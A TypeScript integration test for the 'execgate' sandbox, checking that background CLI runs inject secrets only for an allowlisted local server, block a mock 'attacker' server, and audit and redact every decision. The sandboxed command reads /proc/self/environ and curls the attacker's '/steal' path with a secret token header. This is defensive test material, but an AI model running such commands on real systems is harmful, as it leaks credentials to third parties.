/*
 * Background runs started from the command line (`execgate run --mode background`) are handed to
 * a detached supervisor and outlive the CLI process. The run's egress endpoint goes with it: the
 * supervisor serves the run's proxy socket with a proxy of its own for as long as the run lives.
 * Real CLI, real sandbox, a real server on 127.0.0.1 that the policy names explicitly (an IP
 * literal in `allow`), an "attacker" server it does not name.
 */
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { checkPlatform } from '../../src/sandbox/detect';
import { baseEnv, makeTempDir, waitFor } from '../helpers/tmp';

const CLI = join(__dirname, '..', '..', 'dist', 'cli', 'main.js');
const VALUE = 'ghp_CliBackgroundValue0123456789abcdef';
const maybe = checkPlatform(undefined).ok ? describe : describe.skip;

interface Service { server: Server; port: number; seen: string[]; connections: number }

async function startService(): Promise<Service> {
  const service = { seen: [], connections: 0 } as unknown as Service;
  service.server = createServer((req, res) => {
    const token = String(req.headers['x-token'] ?? '');
    service.seen.push(`${req.url} ${token}`);
    // Echoes the credential: the proxy must take it out before the run reads it.
    res.end(`reached ${token}\n`);
  });
  service.server.on('connection', () => { service.connections += 1; });
  await new Promise<void>((resolve) => service.server.listen(0, '127.0.0.1', resolve));
  service.port = (service.server.address() as AddressInfo).port;
  return service;
}

let tmp: ReturnType<typeof makeTempDir>;
let allowed: Service;
let attacker: Service;
let runtime: string;

beforeAll(async () => {
  tmp = makeTempDir('execgate-egress-cli-bg-');
  runtime = join(tmp.dir, 'runtime');
  mkdirSync(runtime);
  allowed = await startService();
  attacker = await startService();
  writeFileSync(join(tmp.dir, 'policy.yaml'), [
    'version: 1',
    `sandbox: { mode: required, network: { mode: allowlist, allow: ["127.0.0.1:${allowed.port}"] } }`,
    'secrets:',
    '  bind:',
    `    - { ref: "secret:gh", hosts: ["127.0.0.1:${allowed.port}"], delivery: inject, headers: [X-Token], http: ["127.0.0.1:${allowed.port}"] }`,
  ].join('\n'));
});

afterAll(async () => {
  await execgate(['ps', '--json']);
  for (const service of [allowed, attacker]) {
    service.server.closeAllConnections();
    await new Promise((resolve) => service.server.close(resolve));
  }
  tmp.cleanup();
});

function env(): NodeJS.ProcessEnv {
  // TMPDIR: where the CLI's proxy puts its runtime directory, so the test can see it cleaned up.
  return baseEnv({ EXECGATE_HOME: join(tmp.dir, 'home'), EXECGATE_POLICY: join(tmp.dir, 'policy.yaml'), EXECGATE_SECRET_GH: VALUE, TMPDIR: runtime });
}

/** Asynchronous: the runs reach the test's own servers (spawnSync would block them from answering). */
function execgate(args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, ...args], { cwd: tmp.dir, env: env(), stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => { stdout += chunk.toString(); });
    child.stderr.on('data', (chunk: Buffer) => { stderr += chunk.toString(); });
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

async function waitForAsync(check: () => Promise<boolean>, timeoutMs: number): Promise<boolean> {
  for (const end = Date.now() + timeoutMs; Date.now() < end;) {
    if (await check()) return true;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return check();
}

// The policy allows 127.0.0.1 by name, so NO_PROXY leaves it out: these requests go through the proxy to the host's loopback.
const curl = (port: number, path: string, header = ''): string => `curl -sS --max-time 20 -w " %{http_code}\\n" ${header} http://127.0.0.1:${port}${path}`;

maybe('egress of background runs started from the CLI (served by the detached supervisor)', () => {
  test('the run reaches the allowed server with the secret injected, never holding it; the attacker gets nothing; all audited and cleaned up', async () => {
    const command = [
      'cat /proc/self/environ > bg.env',
      // The CLI has exited by now (it printed the id and returned): only the supervisor serves the proxy.
      'for i in $(seq 600); do [ -e go ] && break; sleep 0.05; done',
      curl(allowed.port, '/bg', '-H "X-Token: <<secret:gh>>"'),
      curl(attacker.port, '/steal', '-H "X-Token: <<secret:gh>>"'),
      'echo done > bg-done',
    ].join('\n');
    const started = await execgate(['run', '--mode', 'background', '--', command]);
    expect(started.stderr).toBe('');
    expect(started.status).toBe(0);
    const id = started.stdout.trim();
    expect(id).toMatch(/^run_/);
    writeFileSync(join(tmp.dir, 'go'), '');
    expect(await waitFor(() => existsSync(join(tmp.dir, 'bg-done')), 60_000, 50)).toBe(true);

    expect(allowed.seen).toEqual([`/bg ${VALUE}`]);
    expect(attacker.connections).toBe(0);
    const environ = readFileSync(join(tmp.dir, 'bg.env'), 'latin1');
    expect(environ).not.toContain(VALUE);
    expect(environ).toMatch(/EXECGATE_REF_\d+=[^\0]{38}\0/);

    expect(await waitForAsync(async () => JSON.parse((await execgate(['ps', '--json'])).stdout)[0]?.state === 'exited', 30_000)).toBe(true);
    // The run's record carries its decisions too, as the supervisor's proxy made them.
    const listed = JSON.parse((await execgate(['ps', '--json'])).stdout) as Array<{ id: string; egress?: Array<{ host: string; port: number; allowed: boolean }> }>;
    expect(listed.find((p) => p.id === id)?.egress).toEqual([
      expect.objectContaining({ host: '127.0.0.1', port: allowed.port, allowed: true }),
      expect.objectContaining({ host: '127.0.0.1', port: attacker.port, allowed: false }),
    ]);
    const logs = (await execgate(['logs', id])).stdout;
    expect(logs).toContain('reached [REDACTED:secret:gh]\n 200\n');
    expect(logs).toMatch(/ 403\n/);
    expect(logs).not.toContain(VALUE);

    // The supervisor wrote the decisions to the run's audit log, and removed the run's directory.
    const show = await execgate(['audit', 'show', id]);
    expect(show.stdout).toContain(`allowed 127.0.0.1:${allowed.port} via http, GET 200, rule allow:127.0.0.1:${allowed.port}, injected secret:gh`);
    expect(show.stdout).toContain(`denied 127.0.0.1:${attacker.port} via http`);
    expect(readFileSync(join(tmp.dir, 'home', 'audit.log'), 'utf8')).not.toContain(VALUE);
    expect(await waitFor(() => readdirSync(runtime).length === 0, 30_000, 50)).toBe(true);
  });
});
